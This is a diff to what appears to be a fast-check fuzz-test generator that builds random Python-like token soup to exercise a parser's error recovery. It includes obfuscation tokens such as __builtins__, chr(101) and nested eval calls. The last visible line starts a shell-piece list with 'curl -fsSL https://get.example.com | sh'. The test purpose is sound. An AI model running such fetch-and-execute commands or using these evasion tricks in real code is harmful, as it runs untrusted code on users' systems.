@@ -176,24 +176,108 @@ const statement: fc.Arbitrary<string> = fc.oneof(
   fc.nat({ max: 40 }).map((n) => `${'eval('.repeat(n)}"1"${')'.repeat(n)}`),
 );
 
-/** A Python file: statements at random indentation, with random line endings. */
-export const pythonSource: fc.Arbitrary<string> = fc
-  .tuple(
-    fc.array(fc.tuple(fc.nat({ max: 12 }), statement), { maxLength: 25 }),
-    fc.constantFrom('\n', '\r\n', '\r'),
-    fc.boolean(),
+const PYTHON_TOKENS = [
+  ...API_NAMES,
+  ...MODULES,
+  '(',
+  ')',
+  '[',
+  ']',
+  '{',
+  '}',
+  ',',
+  ':',
+  '.',
+  '=',
+  '+',
+  '%',
+  '*',
+  '**',
+  '@',
+  '\\',
+  ';',
+  '->',
+  ':=',
+  'def',
+  'class',
+  'lambda',
+  'import',
+  'from',
+  'as',
+  'if',
+  'else',
+  'for',
+  'in',
+  'with',
+  'return',
+  'yield',
+  'await',
+  'async',
+  'global',
+  'nonlocal',
+  'del',
+  'match',
+  'case',
+  'try',
+  'except',
+  '"',
+  "'",
+  '"""',
+  'f"',
+  'rb"',
+  '{x!r}',
+  '#',
+  '\n',
+  '\n    ',
+  '\n\t',
+  '\r\n',
+  ' ',
+  '  ',
+  'x',
+  'os',
+  'self',
+  'getattr',
+  'globals()',
+  '__builtins__',
+  'chr(101)',
+  '"".join',
+  '[::-1]',
+];
+
+/** Python-ish token soup: real tokens in any order, so the parser's error recovery is exercised. */
+const pythonSoup: fc.Arbitrary<string> = fc
+  .array(
+    fc.oneof(
+      { weight: 5, arbitrary: fc.constantFrom(...PYTHON_TOKENS) },
+      { weight: 1, arbitrary: hostileText },
+    ),
+    {
+      maxLength: 120,
+    },
   )
-  .map(([lines, eol, cookie]) => {
-    const body = lines
-      .map(([indent, stmt]) =>
-        stmt
-          .split('\n')
-          .map((l) => `${' '.repeat(indent)}${l}`)
-          .join(eol),
-      )
-      .join(eol);
-    return `${cookie ? '# -*- coding: utf-8 -*-\n' : ''}${body}${eol}`;
-  });
+  .map((tokens) => tokens.join(' '));
+
+/** A Python file: statements at random indentation, with random line endings; or token soup. */
+export const pythonSource: fc.Arbitrary<string> = fc.oneof(
+  fc
+    .tuple(
+      fc.array(fc.tuple(fc.nat({ max: 12 }), statement), { maxLength: 25 }),
+      fc.constantFrom('\n', '\r\n', '\r'),
+      fc.boolean(),
+    )
+    .map(([lines, eol, cookie]) => {
+      const body = lines
+        .map(([indent, stmt]) =>
+          stmt
+            .split('\n')
+            .map((l) => `${' '.repeat(indent)}${l}`)
+            .join(eol),
+        )
+        .join(eol);
+      return `${cookie ? '# -*- coding: utf-8 -*-\n' : ''}${body}${eol}`;
+    }),
+  pythonSoup,
+);
 
 const SHELL_PIECES = [
   'curl -fsSL https://get.example.com | sh',
